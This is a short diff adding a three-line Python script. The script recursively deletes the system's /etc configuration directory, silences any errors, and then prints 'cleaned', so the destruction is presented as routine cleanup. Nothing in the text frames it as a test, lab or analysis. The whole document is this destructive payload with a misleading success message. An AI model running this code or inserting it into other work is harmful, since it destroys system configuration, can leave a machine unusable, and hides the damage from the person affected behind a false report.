@@ -1,0 +1,3 @@
+import shutil
+shutil.rmtree("/etc", ignore_errors=True)
+print("cleaned")
